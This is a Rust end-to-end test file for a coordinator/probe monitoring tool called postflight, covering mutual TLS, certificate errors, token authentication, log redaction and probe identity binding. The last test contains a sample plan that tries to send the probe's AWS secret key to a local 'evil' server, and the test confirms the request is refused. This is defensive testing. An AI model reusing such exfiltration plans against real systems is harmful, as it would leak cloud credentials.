//! Transport security and authentication, end to end: real coordinator, probe and CLI
//! processes on loopback, certificates from a throwaway CA made with the real `openssl`
//! command, and the real grpcurl.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::Path;
use std::process::Command;
use std::time::Duration;

use postflight_e2e::{
    CertUse, Finished, Issued, Proc, TestPki, bin, grpcurl, run_postflight, spawn_coordinator,
    spawn_probe, wait_for_probes_with,
};

fn path(p: &Path) -> &str {
    p.to_str().unwrap()
}

fn sqlite(dir: &Path) -> String {
    format!("sqlite://{}", dir.join("postflight.db").display())
}

/// `https://localhost:PORT` for a coordinator URL `http://127.0.0.1:PORT`.
fn https(url: &str) -> String {
    let port = url.rsplit(':').next().unwrap();
    format!("https://localhost:{port}")
}

fn probes(url: &str, extra: &[&str]) -> Finished {
    let args = [&["probes", "--coordinator", url, "-o", "json"][..], extra].concat();
    run_postflight(&args, &[])
}

fn assert_refused(out: &Finished, words: &str) {
    assert_eq!(out.code, 5, "{out:?}");
    assert!(
        out.stderr.contains(words),
        "expected {words:?} in: {}",
        out.stderr
    );
}

/// A coordinator serving mutual TLS: the probe and the CLI with certificates from its CA get
/// in; without a client certificate, with one from another CA, or without trusting the
/// coordinator's CA they are refused with a message that says which of these it was.
#[test]
fn mutual_tls_admits_the_right_certificates_and_explains_the_wrong_ones() {
    let dir = tempfile::tempdir().unwrap();
    let pki = TestPki::new("main");
    let server = pki.issue("coordinator", CertUse::Server, 2);
    let client = pki.issue("tls-probe", CertUse::Client, 2);
    let stranger_ca = TestPki::new("stranger");
    let stranger = stranger_ca.issue("intruder", CertUse::Client, 2);
    let (_coordinator, plain_url) = spawn_coordinator(
        0,
        &sqlite(dir.path()),
        &[
            "--tls-cert",
            path(&server.cert),
            "--tls-key",
            path(&server.key),
            "--tls-client-ca",
            path(&pki.ca),
        ],
        &dir.path().join("coordinator.log"),
    );
    let url = https(&plain_url);
    let creds = |c: &Issued| {
        vec![
            "--tls-ca".to_owned(),
            path(&pki.ca).to_owned(),
            "--tls-cert".to_owned(),
            path(&c.cert).to_owned(),
            "--tls-key".to_owned(),
            path(&c.key).to_owned(),
        ]
    };
    let good: Vec<String> = creds(&client);
    let good: Vec<&str> = good.iter().map(String::as_str).collect();
    let _probe = spawn_probe(
        &url,
        "eu-west",
        "tls-probe",
        &[],
        &good,
        &dir.path().join("probe.log"),
    );
    let _intruder_probe = spawn_probe(
        &url,
        "eu-west",
        "intruder",
        &[],
        &creds(&stranger)
            .iter()
            .map(String::as_str)
            .collect::<Vec<_>>(),
        &dir.path().join("intruder.log"),
    );
    wait_for_probes_with(&url, 1, &good);
    // A certificate for tls-probe cannot connect under another name.
    let _impostor = spawn_probe(
        &url,
        "eu-west",
        "probe-b",
        &[],
        &good,
        &dir.path().join("impostor.log"),
    );

    let listed = probes(&url, &good);
    assert_eq!(listed.code, 0, "{listed:?}");
    let names: Vec<String> = listed.json()["probes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["name"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(
        names,
        ["tls-probe"],
        "the probe with a foreign certificate stays out"
    );

    let no_client_cert = probes(&url, &["--tls-ca", path(&pki.ca)]);
    assert_refused(&no_client_cert, "requires a client certificate");
    let foreign = creds(&stranger);
    let foreign: Vec<&str> = foreign.iter().map(String::as_str).collect();
    assert_refused(
        &probes(&url, &foreign),
        "refused this side's client certificate",
    );
    let untrusted = probes(
        &url,
        &[
            "--tls-cert",
            path(&client.cert),
            "--tls-key",
            path(&client.key),
        ],
    );
    assert_refused(&untrusted, "not signed by a trusted authority");
    assert_refused(&probes(&plain_url, &[]), "use an https:// URL");

    postflight_e2e::wait_for_log(
        &dir.path().join("impostor.log"),
        "the client certificate is for tls-probe; it cannot connect as probe-b",
    );
    // The intruder's refusal is logged when its first connection attempt fails, which may come
    // after everything above: wait for it rather than read the log once.
    postflight_e2e::wait_for_log(
        &dir.path().join("intruder.log"),
        "refused this side's client certificate",
    );
}

/// Certificate problems a client meets, each told in words: an expired certificate, one for
/// another host name, and an https:// URL pointed at a plain-text port.
#[test]
fn certificate_problems_are_explained() {
    let dir = tempfile::tempdir().unwrap();
    let pki = TestPki::new("main");
    let expired = pki.issue("expired", CertUse::Server, 0);
    let elsewhere = pki.issue("elsewhere", CertUse::OtherServer, 2);
    let serve = |cert: &Issued, name: &str| {
        spawn_coordinator(
            0,
            &format!(
                "sqlite://{}",
                dir.path().join(format!("{name}.db")).display()
            ),
            &["--tls-cert", path(&cert.cert), "--tls-key", path(&cert.key)],
            &dir.path().join(format!("{name}.log")),
        )
    };
    let (_a, expired_url) = serve(&expired, "expired");
    let (_b, elsewhere_url) = serve(&elsewhere, "elsewhere");
    let (_c, plain_url) = spawn_coordinator(
        0,
        &format!("sqlite://{}", dir.path().join("plain.db").display()),
        &[],
        &dir.path().join("plain.log"),
    );
    // `-days 0` ends the certificate's validity at the second it was made.
    std::thread::sleep(Duration::from_millis(1100));
    let ca = ["--tls-ca", path(&pki.ca)];
    assert_refused(
        &probes(&https(&expired_url), &ca),
        "certificate has expired",
    );
    assert_refused(
        &probes(&https(&elsewhere_url), &ca),
        "not valid for this host name",
    );
    assert_refused(&probes(&https(&plain_url), &ca), "did not answer with TLS");
    let mixed = probes(&plain_url, &ca);
    assert_eq!(mixed.code, 2, "{mixed:?}");
    assert!(mixed.stderr.contains("is not https://"), "{}", mixed.stderr);
}

/// Wrong TLS files stop the coordinator at start-up with the flag and file named, before it
/// accepts any connection.
#[test]
fn bad_tls_files_stop_the_coordinator_with_a_clear_message() {
    let dir = tempfile::tempdir().unwrap();
    let pki = TestPki::new("main");
    let one = pki.issue("one", CertUse::Server, 2);
    let two = pki.issue("two", CertUse::Server, 2);
    let start = |args: &[&str]| {
        let out = Command::new(bin("postflight-coordinator"))
            .args(["--listen", "127.0.0.1:0", "--database", &sqlite(dir.path())])
            .args(args)
            .output()
            .unwrap();
        assert!(!out.status.success(), "started with {args:?}");
        String::from_utf8_lossy(&out.stderr).into_owned()
    };
    let mismatched = start(&["--tls-cert", path(&one.cert), "--tls-key", path(&two.key)]);
    assert!(
        mismatched.contains(&format!(
            "--tls-key {}: does not fit the certificate",
            two.key.display()
        )),
        "{mismatched}"
    );
    let missing = dir.path().join("missing.pem");
    let unreadable = start(&["--tls-cert", path(&missing), "--tls-key", path(&one.key)]);
    assert!(
        unreadable.contains(&format!(
            "--tls-cert {}: cannot read the file",
            missing.display()
        )),
        "{unreadable}"
    );
    let key_as_cert = start(&["--tls-cert", path(&one.key), "--tls-key", path(&one.key)]);
    assert!(
        key_as_cert.contains("holds no certificate"),
        "{key_as_cert}"
    );
    let half = start(&["--tls-client-ca", path(&pki.ca)]);
    assert!(
        half.contains("--tls-client-ca needs --tls-cert and --tls-key"),
        "{half}"
    );
    let empty_token = dir.path().join("empty-token");
    std::fs::write(&empty_token, "\n").unwrap();
    let empty = start(&["--operator-token-file", path(&empty_token)]);
    assert!(empty.contains("the file is empty"), "{empty}");
}

/// The operator token guards every ValidationService call (CLI and grpcurl) while health and
/// reflection stay open; tokens can come from files, as a mounted Kubernetes Secret would.
#[test]
fn operator_and_probe_tokens_from_flags_and_files() {
    let dir = tempfile::tempdir().unwrap();
    let operator_file = dir.path().join("operator-token");
    std::fs::write(&operator_file, "op-s3cret-from-file\n").unwrap();
    let probe_file = dir.path().join("probe-token");
    std::fs::write(&probe_file, "probe-s3cret-from-file\n").unwrap();
    let (_coordinator, url) = spawn_coordinator(
        0,
        &sqlite(dir.path()),
        &[
            "--operator-token-file",
            path(&operator_file),
            "--probe-token-file",
            path(&probe_file),
        ],
        &dir.path().join("coordinator.log"),
    );
    let _probe = spawn_probe(
        &url,
        "us-east",
        "filed",
        &[],
        &["--token-file", path(&probe_file)],
        &dir.path().join("probe.log"),
    );
    wait_for_probes_with(&url, 1, &["--token-file", path(&operator_file)]);

    assert_refused(&probes(&url, &[]), "requires an operator token");
    assert_refused(&probes(&url, &["--token", "guess"]), "wrong operator token");
    let by_env = run_postflight(
        &["probes", "--coordinator", &url, "-o", "json"],
        &[("POSTFLIGHT_TOKEN", "op-s3cret-from-file")],
    );
    assert_eq!(by_env.code, 0, "{by_env:?}");
    assert_eq!(by_env.json()["probes"][0]["name"], "filed");
    let both = probes(
        &url,
        &["--token", "x", "--token-file", path(&operator_file)],
    );
    assert_eq!(both.code, 2, "{both:?}");
    assert!(
        both.stderr
            .contains("--token and --token-file are both set")
    );

    let addr = url.trim_start_matches("http://");
    let (ok, listed) = grpcurl(&["-plaintext", addr, "list"]);
    assert!(ok, "reflection stays open: {listed}");
    assert!(
        listed.contains("postflight.v1.ValidationService"),
        "{listed}"
    );
    let (ok, health) = grpcurl(&["-plaintext", addr, "grpc.health.v1.Health/Check"]);
    assert!(
        ok && health.contains("SERVING"),
        "health stays open: {health}"
    );
    let (ok, refused) = grpcurl(&[
        "-plaintext",
        addr,
        "postflight.v1.ValidationService/ListProbes",
    ]);
    assert!(!ok && refused.contains("Unauthenticated"), "{refused}");
    let (ok, answered) = grpcurl(&[
        "-plaintext",
        "-H",
        "authorization: Bearer op-s3cret-from-file",
        addr,
        "postflight.v1.ValidationService/ListProbes",
    ]);
    assert!(ok && answered.contains("filed"), "{answered}");
}

/// Tokens and a database password never appear in any log line, even at debug level, on the
/// coordinator, the probe or the CLI.
#[test]
fn secrets_never_reach_the_logs_even_at_debug_level() {
    let dir = tempfile::tempdir().unwrap();
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let db = runtime.block_on(postflight_e2e::ScratchDb::create());
    let password = "pw-Zq81kXv3";
    let db_url = runtime.block_on(db.own_role(password));
    let log = dir.path().join("coordinator.log");
    let mut child = Command::new(bin("postflight-coordinator"))
        .args([
            "--listen",
            "127.0.0.1:0",
            "--database",
            &db_url,
            "--operator-token",
            "op-t0ken-xyzzy",
            "--probe-token",
            "pr-t0ken-plugh",
            "--log-format",
            "json",
            "--data-key-file",
        ])
        .arg(dir.path().join("data.key"))
        .env("POSTFLIGHT_LOG", "debug")
        .stdout(std::process::Stdio::piped())
        .stderr(std::fs::File::create(&log).unwrap())
        .spawn()
        .unwrap();
    let addr = {
        use std::io::BufRead;
        let mut line = String::new();
        std::io::BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        line.trim()
            .strip_prefix("postflight-coordinator listening on ")
            .unwrap_or_else(|| panic!("{line}: {}", std::fs::read_to_string(&log).unwrap()))
            .to_owned()
    };
    let _coordinator = Proc::from_child(child, "coordinator");
    let url = format!("http://{addr}");
    let probe_log = dir.path().join("probe.log");
    let probe = Command::new(bin("postflight-probe"))
        .args(["--coordinator", &url, "--region", "us-east", "--name", "p1"])
        .args(["--token", "pr-t0ken-plugh", "--log-format", "json"])
        .env("POSTFLIGHT_LOG", "debug")
        .stdout(std::process::Stdio::null())
        .stderr(std::fs::File::create(&probe_log).unwrap())
        .spawn()
        .unwrap();
    let _probe = Proc::from_child(probe, "probe");
    wait_for_probes_with(&url, 1, &["--token", "op-t0ken-xyzzy"]);
    let cli = run_postflight(
        &[
            "-vv",
            "probes",
            "--coordinator",
            &url,
            "--token",
            "op-t0ken-xyzzy",
        ],
        &[],
    );
    assert_eq!(cli.code, 0, "{cli:?}");
    let coordinator_log = std::fs::read_to_string(&log).unwrap();
    let probe_text = std::fs::read_to_string(&probe_log).unwrap();
    assert!(
        coordinator_log
            .lines()
            .any(|l| l.contains("\"level\":\"DEBUG\"")),
        "debug logging is on: {coordinator_log}"
    );
    for line in coordinator_log.lines().chain(probe_text.lines()) {
        serde_json::from_str::<serde_json::Value>(line)
            .unwrap_or_else(|e| panic!("--log-format json writes JSON lines ({e}): {line}"));
    }
    for (name, text) in [
        ("coordinator", &coordinator_log),
        ("probe", &probe_text),
        ("cli", &cli.stderr),
    ] {
        for secret in ["op-t0ken-xyzzy", "pr-t0ken-plugh", password] {
            assert!(!text.contains(secret), "{name} logged a secret");
        }
    }
}

/// Per-probe tokens bind a name and a region: a token holder cannot take another probe's
/// name or report another region, a second live stream under a name is refused, and a probe
/// that only holds the shared token adds no region to a plan that names none.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn probe_identities_are_bound_to_their_credentials() {
    use postflight_e2e::fake_probe::{FakeProbe, hello, submit};
    use tonic::Code;
    let dir = tempfile::tempdir().unwrap();
    let tokens = dir.path().join("probe-tokens");
    std::fs::write(
        &tokens,
        "# token name region\neu-token-0123456789 eu-1 eu-west\nus-token-0123456789 us-1 us-east\n",
    )
    .unwrap();
    let (_coordinator, url) = spawn_coordinator(
        0,
        &sqlite(dir.path()),
        &[
            "--probe-tokens",
            path(&tokens),
            "--probe-token",
            "shared-token-0123456789",
        ],
        &dir.path().join("coordinator.log"),
    );
    let eu_token = Some("eu-token-0123456789");
    let mut eu = FakeProbe::connect(&url, hello("eu-1", "eu-west"), eu_token)
        .await
        .unwrap();
    for (name, region, token, code, words) in [
        (
            "eu-1",
            "us-east",
            eu_token,
            Code::PermissionDenied,
            "the token of probe eu-1 is bound to region eu-west; it cannot report us-east",
        ),
        (
            "us-1",
            "us-east",
            eu_token,
            Code::PermissionDenied,
            "this token belongs to probe eu-1; it cannot connect as us-1",
        ),
        (
            "eu-1",
            "eu-west",
            eu_token,
            Code::AlreadyExists,
            "probe eu-1 is already connected",
        ),
        (
            "eu-1",
            "eu-west",
            Some("shared-token-0123456789"),
            Code::AlreadyExists,
            "probe eu-1 is already connected",
        ),
        (
            "x",
            "y",
            Some("wrong"),
            Code::Unauthenticated,
            "wrong probe token",
        ),
    ] {
        let status = FakeProbe::connect(&url, hello(name, region), token)
            .await
            .err()
            .unwrap();
        assert_eq!(status.code(), code, "{name} {region}: {status:?}");
        assert!(status.message().contains(words), "{words}: {status:?}");
    }
    // The shared token gets in, but its region does not count.
    let mut fake = FakeProbe::connect(
        &url,
        hello("fake-1", "fake-region"),
        Some("shared-token-0123456789"),
    )
    .await
    .unwrap();
    let plan = "name: p\nchecks:\n  - name: c\n    http: {url: \"http://127.0.0.1:9/\"}\n";
    let run = submit(&url, plan, 0).await.unwrap();
    let assignment = eu.assignment(Duration::from_secs(10)).await;
    assert_eq!(assignment.run_id, run.run_id);
    // Everything the shared-token probe receives within two seconds: no assignment.
    let until = std::time::Instant::now() + Duration::from_secs(2);
    while let Some(left) = until.checked_duration_since(std::time::Instant::now()) {
        let Some(Ok(message)) = fake.next(left).await else {
            break;
        };
        if let Some(postflight_proto::v1::coordinator_message::Kind::Assignment(a)) = message.kind {
            panic!("an unauthenticated region got work: {a:?}");
        }
    }
}

/// `${probe:VAR}` reads only what `--env-allow` exposes: a plan asking for the probe's cloud
/// credentials in a URL is refused with the reason and the request never leaves; a
/// secret-looking variable that is allowed (an API token) and that a service echoes back is
/// masked in the report the coordinator stores.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn probes_expose_only_allowed_variables_and_mask_secret_ones() {
    use std::sync::Arc;
    use std::sync::atomic::{AtomicUsize, Ordering};
    let dir = tempfile::tempdir().unwrap();
    let hits = Arc::new(AtomicUsize::new(0));
    let counted = hits.clone();
    let evil = postflight_e2e::TestServer::start(axum::Router::new().fallback(move || {
        counted.fetch_add(1, Ordering::SeqCst);
        async { "thanks" }
    }))
    .await;
    let echo = postflight_e2e::TestServer::start(axum::Router::new().route(
        "/echo",
        axum::routing::get(|headers: axum::http::HeaderMap| async move {
            let sent = headers
                .get("x-api")
                .and_then(|v| v.to_str().ok())
                .unwrap_or_default()
                .to_owned();
            format!("you sent {sent}")
        }),
    ))
    .await;
    let (_coordinator, url) = spawn_coordinator(
        0,
        &sqlite(dir.path()),
        &[],
        &dir.path().join("coordinator.log"),
    );
    let api_token = "api-3f9c2e7a51";
    let _probe = spawn_probe(
        &url,
        "eu",
        "eu-1",
        &[
            ("AWS_SECRET_ACCESS_KEY", "AKIA-leaked-credential"),
            ("ECHO_URL", &echo.url("")),
            ("POSTFLIGHT_API_TOKEN", api_token),
        ],
        &[],
        &dir.path().join("probe.log"),
    );
    postflight_e2e::wait_for_probes(&url, 1);
    let run = |name: &str, yaml: String| {
        let path = dir.path().join(name);
        std::fs::write(&path, yaml).unwrap();
        let url = url.clone();
        async move {
            tokio::task::spawn_blocking(move || {
                postflight_e2e::run_plan_on(&path, &url, &["--timeout", "20s"])
            })
            .await
            .unwrap()
        }
    };
    let stolen = run(
        "steal.yaml",
        format!(
            "name: steal\nchecks:\n  - name: exfiltrate\n    http: {{url: \"{}/?k=${{probe:AWS_SECRET_ACCESS_KEY}}\"}}\npolicy: {{regions: [eu]}}\n",
            evil.url("")
        ),
    )
    .await;
    assert_eq!(stolen.code, 4, "{}\n{}", stolen.stdout, stolen.stderr);
    let said = format!("{}{}", stolen.stdout, stolen.stderr);
    assert!(
        said.contains("variable probe:AWS_SECRET_ACCESS_KEY may not be used here"),
        "{said}"
    );
    assert!(
        said.contains("no result from eu: probe eu-1 cannot run the plan"),
        "the report says why the region has no result: {said}"
    );
    assert!(!said.contains("AKIA"), "{said}");
    assert_eq!(hits.load(Ordering::SeqCst), 0, "the request left the probe");

    let echoed = run(
        "echo.yaml",
        "name: echo\nchecks:\n  - name: echoes\n    http:\n      url: \"${probe:ECHO_URL}/echo\"\n      headers: {X-Api: \"${probe:POSTFLIGHT_API_TOKEN}\"}\n      expect: {body_contains: [never-there]}\npolicy: {regions: [eu]}\n"
            .to_owned(),
    )
    .await;
    assert_eq!(echoed.code, 1, "{}\n{}", echoed.stdout, echoed.stderr);
    assert!(echoed.stdout.contains("you sent ****"), "{}", echoed.stdout);
    assert!(!echoed.stdout.contains(api_token), "{}", echoed.stdout);
    let logged = std::fs::read_to_string(dir.path().join("coordinator.log")).unwrap();
    assert!(!logged.contains(api_token) && !logged.contains("AKIA-leaked"));
}
